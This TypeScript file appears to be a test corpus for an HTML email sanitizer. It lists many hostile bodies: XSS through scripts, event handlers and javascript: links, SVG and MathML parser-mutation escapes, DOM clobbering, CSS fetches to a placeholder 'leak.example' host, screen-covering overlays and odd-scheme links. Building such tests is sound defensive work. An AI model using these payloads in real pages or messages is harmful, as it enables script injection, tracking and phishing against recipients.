// Long because it is a table: one hostile body per row, grouped by the trick. New attacks are new rows.

/** A hostile body: what it tries, and the HTML. Scripts call `hit()`, remote addresses lie below `leak.example`. */
export interface Attack {
  readonly name: string
  readonly html: string
}

const leak = (name: string) => `http://${name}.leak.example/x`
const run = 'top.hit(1)'
const runData = 'data:text/html,<script>top.hit(1)</script>'

const row = ([name, html]: readonly [string, string]): Attack => ({ name, html })

const scripts = [
  ['script element', `<p>a</p><script>${run}</script>`],
  ['script with address', `<script src="${leak('script')}"></script>`],
  ['script with broken end', `<script>${run}</script foo bar>`],
  ['script in upper case with a slash', `<SCRIPT/X SRC="${leak('slash')}"></SCRIPT>`],
  ['module script', `<script type="module">${run}</script>`],
  [
    'import map and speculation rules',
    `<script type="speculationrules">{"prefetch":[{"source":"list","urls":["${leak('spec')}"]}]}</script>`,
  ],
  ['event on a broken picture', `<img src="x:x" onerror="${run}">`],
  ['event without quotes and with slashes', `<img/src=x:x/onerror=${run}>`],
  ['event on load of a style', `<style onload="${run}">p{color:red}</style>`],
  ['event on toggle', `<details open ontoggle="${run}"><summary>x</summary>y</details>`],
  ['event on focus with autofocus', `<a href="#" autofocus tabindex="0" onfocus="${run}">x</a>`],
  ['event on pointer', `<div onpointerover="${run}" onmouseover="${run}" onclick="${run}">touch me</div>`],
  [
    'event on animation',
    `<style>@keyframes k{from{left:0}}</style><b style="animation:k 1s" onanimationstart="${run}">x</b>`,
  ],
  ['event on transition', `<b style="transition:color 1ms;color:red" ontransitionend="${run}">x</b>`],
  [
    'event on scroll end',
    `<div style="overflow:scroll;height:9px" onscroll="${run}" onscrollend="${run}"><p>x<p>y</div>`,
  ],
  [
    'event on body',
    `<body onload="${run}" onpageshow="${run}" onresize="${run}" onhashchange="${run}">x</body>`,
  ],
  [
    'event on hidden until found',
    `<div hidden="until-found" onbeforematch="${run}" id="x">x</div><a href="#x">go</a>`,
  ],
  [
    'event on content visibility',
    `<div style="content-visibility:auto" oncontentvisibilityautostatechange="${run}">x</div>`,
  ],
  ['event on marquee', `<marquee onstart="${run}" onfinish="${run}" loop=1>x</marquee>`],
  [
    'event on popover',
    `<button popovertarget=p>open</button><div popover id=p onbeforetoggle="${run}">x</div>`,
  ],
  ['javascript link', `<a href="javascript:${run}">x</a>`],
  [
    'javascript link with entities and control letters',
    `<a href="&#1;java&Tab;scr&NewLine;ipt&colon;${run}">x</a>`,
  ],
  ['javascript link in mixed case after blanks', `<a href="   jAvAsCrIpT:${run}">x</a>`],
  ['vbscript and data links', `<a href="vbscript:${run}">x</a><a href="${runData}">y</a>`],
  ['blob and filesystem links', `<a href="blob:http://x/1">x</a><a href="filesystem:http://x/1">y</a>`],
  [
    'javascript in an area',
    `<img usemap="#m" width=90 height=90 src="x:"><map name="m"><area shape="default" href="javascript:${run}"></map>`,
  ],
  ['ping of a link', `<a href="https://a.example/" ping="${leak('ping')}">x</a>`],
  ['base', `<base href="javascript:${run}//"><base target="_top"><a href="/x">x</a>`],
  ['refresh', `<meta http-equiv="refresh" content="0;url=${leak('refresh')}">`],
  ['refresh to a script', `<meta http-equiv="refresh" content="0;url=javascript:${run}">`],
  [
    'policy of its own',
    `<meta http-equiv="Content-Security-Policy" content="report-uri ${leak('report')}; img-src 'none'">`,
  ],
] as const

const frames = [
  ['iframe with srcdoc', `<iframe srcdoc="<script>parent.parent.hit(1)</script>"></iframe>`],
  ['iframe with javascript', `<iframe src="javascript:${run}"></iframe>`],
  ['iframe with address', `<iframe src="${leak('iframe')}"></iframe>`],
  ['object and embed', `<object data="${runData}"></object><embed src="${leak('embed')}">`],
  [
    'applet and param',
    `<applet code="x" codebase="${leak('applet')}"><param name=src value="${leak('param')}"></applet>`,
  ],
  ['frameset', `<frameset onload="${run}"><frame src="${leak('frame')}"></frameset>`],
  [
    'portal and fenced frame',
    `<portal src="${leak('portal')}"></portal><fencedframe src="${leak('fenced')}"></fencedframe>`,
  ],
  [
    'form to a script',
    `<form action="javascript:${run}"><button autofocus>send</button><input type=submit formaction="${leak('form')}"></form>`,
  ],
  [
    'form with clobbering fields',
    `<form id=f><input name=attributes><input name=removeAttribute><input name=getAttribute><input name=tagName><input name=parentNode><img src="${leak('clobber')}" onerror="${run}"></form>`,
  ],
  [
    'form nested twice',
    `<form><div><form><input name=childNodes></form><img src=x: onerror="${run}"></div></form>`,
  ],
  ['picture button', `<input type="image" src="${leak('image-input')}" onerror="${run}">`],
  [
    'clobbering the document',
    `<img name="body" src="x:"><img name="head" src="x:"><img name="documentElement" src="x:"><a id="querySelector" name="querySelector">x</a>`,
  ],
  [
    'clobbering getElementById',
    `<img name="getElementById"><img name="images"><a href="#x">go</a><a name="x">here</a>`,
  ],
  [
    'dialog and popover taking the top layer',
    `<dialog open style="position:fixed;inset:0">x</dialog><div popover="manual" style="inset:0">y</div>`,
  ],
  ['editing host taking the focus', `<div contenteditable autofocus tabindex=1 accesskey=a>x</div>`],
] as const

const vectors = [
  ['svg onload', `<svg onload="${run}"></svg>`],
  ['svg script', `<svg><script>${run}</script></svg>`],
  [
    'svg use of a data document',
    `<svg><use href="data:image/svg+xml,<svg id='x' xmlns='http://www.w3.org/2000/svg'><image href='x:' onerror='${run}'/></svg>#x"/></svg>`,
  ],
  ['svg use with a broken media type', `<svg><use href="data: image/s vg+xml;base64,PHN2Zz4=#x"/></svg>`],
  [
    'svg animate with a blank in the name',
    `<svg><a><animate attributeName="href " values="javascript:${run}" begin="0s" /><text y="20">x</text></a></svg>`,
  ],
  [
    'svg animate by and to',
    `<svg><a href="#"><animate attributeName=href to="javascript:${run}" by="x"/><text y=20>x</text></a><rect style="x"><animate attributeName=style values="fill:url(${leak('by')})"/></rect></svg>`,
  ],
  [
    'svg set of a handler',
    `<svg><set attributeName="onmouseover" to="${run}"/><animate onbegin="${run}" attributeName=x dur=1s/></svg>`,
  ],
  [
    'svg feImage',
    `<svg><filter id=f><feImage href="${leak('feimage')}"/></filter><rect filter="url(#f)" width=9 height=9 /></svg>`,
  ],
  [
    'svg funciri',
    `<svg><rect fill="url(${leak('fill')}#a)" stroke="url(${leak('stroke')}#b)" mask="url(${leak('mask')}#c)" cursor="url(${leak('cursor')}),auto" width=99 height=99 /></svg>`,
  ],
  [
    'svg foreignObject',
    `<svg><foreignObject><iframe xmlns="http://www.w3.org/1999/xhtml" src="javascript:${run}"></iframe></foreignObject></svg>`,
  ],
  [
    'svg image and xlink',
    `<svg><image xlink:href="${leak('xlink')}" href="${leak('svg-image')}" onerror="${run}"/></svg>`,
  ],
  [
    'svg style breaking out as html',
    `<svg><style><!--</style><img src=x: onerror="${run}">--></style></svg>`,
  ],
  ['svg renamed title', `<svg><title><style><img src=x: onerror="${run}"></style></title></svg>`],
  [
    'math annotation',
    `<math><annotation-xml encoding="text/html"><img src=x: onerror="${run}"></annotation-xml></math>`,
  ],
  [
    'math mglyph style',
    `<math><mtext><table><mglyph><style><!--</style><img title="--&gt;&lt;img src=x: onerror=${run}&gt;">`,
  ],
  ['math with a link', `<math href="javascript:${run}"><mtext>click</mtext></math>`],
  [
    'namespace attribute breaking out',
    `<svg xmlns="http://www.w3.org/2000/svg&quot;><img src=x: onerror=${run}>">x</svg>`,
  ],
  ['CDATA', `<![CDATA[<script>${run}</script>]]><svg><![CDATA[><img src=x: onerror=${run}>]]></svg>`],
] as const

const parsing = [
  ['noscript with an attribute', `<noscript><p title="</noscript><img src=x: onerror=${run}>"></noscript>`],
  [
    'noembed, noframes, xmp, plaintext',
    `<noembed><img title="</noembed><img src=x: onerror=${run}>"></noembed><xmp><p title="</xmp><img src=x: onerror=${run}>"></xmp><plaintext><img src=x: onerror=${run}>`,
  ],
  [
    'title and textarea',
    `<title><p id="</title><img src=x: onerror=${run}>"></title><textarea><p id="</textarea><img src=x: onerror=${run}>"></textarea>`,
  ],
  ['style with an end inside', `<style>p{content:"</style><img src=x: onerror=${run}>"}</style>`],
  ['comment ends', `<!--><img src=x: onerror="${run}">--><!-- --!><img src=x: onerror="${run}"> -->`],
  [
    'conditional comment',
    `<!--[if mso]><script>${run}</script><![endif]--><![if !mso]><script>${run}</script><![endif]>`,
  ],
  ['processing instruction', `<?xml version="1.0"?><?php <img src=x: onerror="${run}"> ?>`],
  ['template', `<template><img src=x: onerror="${run}"><script>${run}</script></template>`],
  [
    'declarative shadow root',
    `<div><template shadowrootmode="open"><img src="${leak('shadow')}" onerror="${run}"></template></div>`,
  ],
  [
    'table foster parenting',
    `<table><tr><form><img src=x: onerror="${run}"></form><style></table><img src=x: onerror="${run}">`,
  ],
  [
    'deep nesting flattened by the parser',
    `${'<div>'.repeat(600)}<form><math><mtext></form><form><mglyph><style></math><img src=x: onerror=${run}>${'</div>'.repeat(600)}`,
  ],
  [
    'nested tables of forms',
    `<form><math><mtext></form><form><mglyph><svg><mtext><style><path id="</style><img onerror=${run} src=x:>">`,
  ],
  [
    'select as a carrier',
    `<select><template><style><!--</style><a rel="--></style></select><img src=x: onerror=${run}>">`,
  ],
  [
    'null and odd letters in tags',
    `<scr\u0000ipt>${run}</scr\u0000ipt><img src=x:\u0000 onerror\u0000="${run}"><im\u0000g src=x: onerror=${run}>`,
  ],
  ['UTF-7 and charset switch', `<meta charset="utf-7">+ADw-script+AD4-top.hit(1)+ADw-/script+AD4-`],
  [
    'custom element with is',
    `<p is="x-evil" onclick="${run}">x</p><x-evil onclick="${run}" style="position:fixed">y</x-evil>`,
  ],
  [
    'attribute that ends a style',
    `<p title="</style><img src=x: onerror=${run}>" class="--&gt;<img src=x: onerror=${run}>">x</p>`,
  ],
  [
    'marks of ours',
    `<img data-mailroom-cid="0" src="${leak('mark')}"><p data-mailroom-long data-mr-content>x</p><style data-mailroom>p{background:url(${leak('own-style')})}</style>`,
  ],
] as const

const pictures = [
  ['remote picture', `<img src="${leak('img')}">`],
  ['srcset', `<img srcset="${leak('srcset1')} 1x, ${leak('srcset2')} 2x" sizes="100vw">`],
  ['picture element', `<picture><source srcset="${leak('source')}"><img src="${leak('picture')}"></picture>`],
  [
    'picture without scheme',
    `<img src="//bare.leak.example/x"><img src="\\\\back.leak.example\\x"><img src="/\\mix.leak.example/x">`,
  ],
  ['relative pictures', `<img src="x.png"><img src="/x.png"><img src="?x"><img src="">`],
  [
    'background attribute',
    `<table background="${leak('table')}"><tr background="${leak('tr')}"><td background="${leak('td')}">x</td></tr></table>`,
  ],
  [
    'background of the body',
    `<body background="${leak('body')}" style="background:url(${leak('body-style')})">x</body>`,
  ],
  [
    'media and poster',
    `<video src="${leak('video')}" poster="${leak('poster')}" autoplay onerror="${run}"></video><audio src="${leak('audio')}" autoplay></audio><track src="${leak('track')}">`,
  ],
  [
    'links that fetch',
    `<link rel="stylesheet" href="${leak('css')}"><link rel="preload" as="image" href="${leak('preload')}"><link rel="icon" href="${leak('icon')}"><link rel="dns-prefetch" href="//dns.leak.example"><link rel="preconnect" href="//pre.leak.example"><link rel="manifest" href="${leak('manifest')}">`,
  ],
  [
    'svg data picture',
    `<img src="data:image/svg+xml,<svg xmlns='http://www.w3.org/2000/svg' onload='${run}'><image href='${leak('svg-data')}'/></svg>">`,
  ],
  [
    'data picture of a false type',
    `<img src="data:text/html;base64,PHNjcmlwdD50b3AuaGl0KDEpPC9zY3JpcHQ+"><img src="data:image/png,<script>${run}</script>">`,
  ],
  [
    'file, chrome and share pictures',
    `<img src="file:///etc/passwd"><img src="chrome://favicon/x"><img src="file://///unc.leak.example/x">`,
  ],
  [
    'lowsrc, dynsrc, longdesc, cite',
    `<img lowsrc="${leak('lowsrc')}" dynsrc="${leak('dynsrc')}" longdesc="${leak('longdesc')}"><blockquote cite="${leak('cite')}">x</blockquote>`,
  ],
  [
    'attribution and timing attributes',
    `<img src="x:" attributionsrc="${leak('attribution')}" elementtiming="x" fetchpriority="high" crossorigin>`,
  ],
] as const

const sheets = [
  ['import', `<style>@import "${leak('import1')}"; @import url(${leak('import2')}); p{color:red}</style>`],
  [
    'import written with escapes',
    `<style>@\\69mport "${leak('import-esc')}"; @im/**/port "${leak('import-com')}";</style>`,
  ],
  [
    'import in a broken block',
    `<style>{ } @import '${leak('broken')}'; } @import url('${leak('broken2')}')</style>`,
  ],
  [
    'url in a rule',
    `<style>body{background:url(${leak('rule')})} p{list-style:url("${leak('list')}");border-image:url('${leak('border')}') 30}</style>`,
  ],
  [
    'url with escapes',
    `<p style="background:\\75\\72\\6c(${leak('esc1')})">x</p><p style="background:u\\rl('${leak('esc2')}')">y</p>`,
  ],
  [
    'url split by comments',
    `<p style="background:/**/url(/**/${leak('comment')})">x</p><p style="ba/**/ckground:url(${leak('comment2')})">y</p>`,
  ],
  [
    'url without end',
    `<p style="background:url(${leak('unclosed')}">x</p><style>p{background:url("${leak('unclosed2')}`,
  ],
  [
    'image-set and cross-fade',
    `<p style="background:image-set('${leak('set')}' 1x)">x</p><p style="background:-webkit-image-set(url(${leak('wset')}) 1x)">y</p><p style="background:-webkit-cross-fade(url(${leak('fade')}),url(${leak('fade2')}),50%)">z</p>`,
  ],
  [
    'custom property',
    `<style>:root{--a:url(${leak('var')});--b:u\\72l(${leak('var2')})} p{background:var(--a);list-style-image:var(--b);content:var(--a)}</style><p>x</p>`,
  ],
  [
    'custom property of ours',
    `<style>:root{--mailroom-inline-0:url(${leak('ours')})}p{background:var(--mailroom-inline-0)}</style><p style="--mailroom-inline-0:url(${leak('ours2')})">x</p>`,
  ],
  [
    'fallback of a variable',
    `<p style="background:var(--nope,url(${leak('fallback')}))">x</p><p style="background-image:var(--x,image-set('${leak('fallback2')}' 1x))">y</p>`,
  ],
  [
    'content, cursor, filter, mask, clip-path',
    `<style>p::before{content:url(${leak('content')})}p{cursor:url(${leak('cur')}),auto;filter:url(${leak('filter')}#a);mask:url(${leak('maskcss')});-webkit-mask-image:url(${leak('wmask')});clip-path:url(${leak('clip')}#a);shape-outside:url(${leak('shape')});offset-path:url(${leak('offset')}#a);-webkit-box-reflect:below 0 url(${leak('reflect')})}</style><p>x</p>`,
  ],
  [
    'font',
    `<style>@font-face{font-family:f;src:url(${leak('font')})}@font-face{font-family:g;src:local(x),url("${leak('font2')}") format("woff")}p{font-family:f,g}</style><p>x</p>`,
  ],
  [
    'rules inside rules',
    `<style>@media screen{@supports (color:red){p{background:url(${leak('deep')});& b{background:url(${leak('nest')})}}}}@layer a{p{background:url(${leak('layer')})}}@container (width>1px){p{background:url(${leak('container')})}}@scope (p){b{background:url(${leak('scope')})}}@starting-style{p{background:url(${leak('start')})}}</style><p>x<b>y</b></p>`,
  ],
  [
    'keyframes',
    `<style>@keyframes k{from{background:url(${leak('kf')})}to{background-image:image-set("${leak('kf2')}" 1x)}}p{animation:k 1s infinite}</style><p>x</p>`,
  ],
  [
    'page, namespace, charset, property',
    `<style>@page{background:url(${leak('page')})}@namespace x url(${leak('ns')});@property --p{syntax:"<url>";inherits:false;initial-value:url(${leak('prop')})}@counter-style c{symbols:url(${leak('counter')})}p{background:var(--p)}</style><p>x</p>`,
  ],
  [
    'condition with an address',
    `<style>@supports (background:url(${leak('supports')})){p{color:red}}@media (min-width:1px) and (x:url(${leak('media')})){p{color:red}}@document url(${leak('document')}){p{color:red}}</style>`,
  ],
  [
    'selectors that spy',
    `<style>a[href^="h"]{background:url(${leak('sel')})}a:visited{background:url(${leak('visited')})}p:hover{background:url(${leak('hover')})}a:active{background:url(${leak('active')})}::selection{background:url(${leak('selection')})}p::first-line{background:url(${leak('line')})}</style><a href="https://a.example">x</a><p>y</p>`,
  ],
  [
    'print, dark and size only',
    `<style>@media print{p{background:url(${leak('print')})}}@media (prefers-color-scheme:dark){p{background:url(${leak('dark')})}}@media (max-width:9999px){p{background:url(${leak('narrow')})}}</style><p>x</p>`,
  ],
  [
    'expression, behavior, binding',
    `<p style="width:expression(${run});behavior:url(${leak('htc')});-moz-binding:url(${leak('xbl')}#x)">x</p>`,
  ],
  [
    'javascript in css',
    `<p style="background:url(javascript:${run});list-style-image:url('javascript:${run}')">x</p>`,
  ],
  [
    'string that ends the element',
    `<style>p::after{content:"\\3c/style>\\3cimg src=x: onerror=${run}>"} q{content:'</sty'}</style><p>x</p>`,
  ],
  [
    'style type and media tricks',
    `<style type="text/css" media="all" nonce="x">@import url(//t.leak.example/x);</style><style type="text/plain">@import url(//t2.leak.example/x);</style>`,
  ],
  [
    'style inside the body and a comment',
    `<div><style><!-- @import url(${leak('cdo')}); p{background:url(${leak('cdo2')})} --></style><p>x</p></div>`,
  ],
  [
    'nested quotes and newlines',
    `<p style='background:url("${leak('quote')}'>x</p><p style="background:url('${leak('newline')}\n')">y</p><p style="background:url(&quot;${leak('entity')}&quot;)">z</p>`,
  ],
  [
    'attr() as an address',
    `<p data-u="${leak('attr')}" title="${leak('attr2')}" style="background:attr(title type(<url>));background-image:image-set(attr(title))">x</p>`,
  ],
  [
    'src() and future functions',
    `<p style="background:src('${leak('src')}');background-image:image('${leak('image')}');background-image:element(#x);background-image:paint(x)">x</p>`,
  ],
] as const

const overlays = [
  ['fixed', `<div style="position:fixed;inset:0;z-index:2147483647;background:red">cover</div>`],
  [
    'fixed with important',
    `<div style="position:fixed!important;inset:0!important;z-index:2147483647!important">cover</div>`,
  ],
  [
    'fixed in a sheet with escapes',
    `<style>.c{p\\6fsition:f\\69xed !important;top:0;left:0;width:100vw;height:100vh}</style><div class=c>cover</div>`,
  ],
  [
    'fixed by a variable',
    `<style>:root{--p:fixed}.c{position:var(--p)!important;inset:0}</style><div class=c>cover</div>`,
  ],
  [
    'sticky and huge margins',
    `<div style="position:sticky;top:0;margin:-9999px;width:99999px;height:99999px">cover</div>`,
  ],
  [
    'frame hidden by its own sheet',
    `<style>html,body{display:none!important;position:fixed!important;height:100vh!important}</style>text`,
  ],
  [
    'height that follows the frame',
    `<style>html,body,div{height:100%!important;min-height:100vh!important}</style><div style="height:calc(100vh + 10px)">x</div>`,
  ],
  [
    'hidden text',
    `<div style="display:none">secret <img src="${leak('hidden')}"></div><div style="font-size:0;opacity:0;color:#fff">more</div>`,
  ],
  [
    'anchor and view transition',
    `<style>@view-transition{navigation:auto}p{view-transition-name:x;position-anchor:--a;anchor-name:--a}</style><p>x</p>`,
  ],
  [
    'link out of the frame',
    `<a href="https://a.example/" target="_top">top</a><a href="https://b.example/" target="_parent">parent</a><a href="https://c.example/" target="mailroom">name</a>`,
  ],
  [
    'links with odd schemes',
    `<a href="ms-msdt:/id x">a</a><a href="file:///c:/x!y">b</a><a href="\\\\share\\x">c</a><a href="intent://x#Intent;end">d</a><a href="search-ms:query=x">e</a><a href="view-source:http://x">f</a>`,
  ],
  [
    'download link',
    `<a href="data:text/html,x" download="x.exe">x</a><a href="https://a.example/x.exe" download>y</a>`,
  ],
] as const

/** Hostile bodies written for this project. */
export const handmadeAttacks: readonly Attack[] = [
  ...scripts,
  ...frames,
  ...vectors,
  ...parsing,
  ...pictures,
  ...sheets,
  ...overlays,
].map(row)
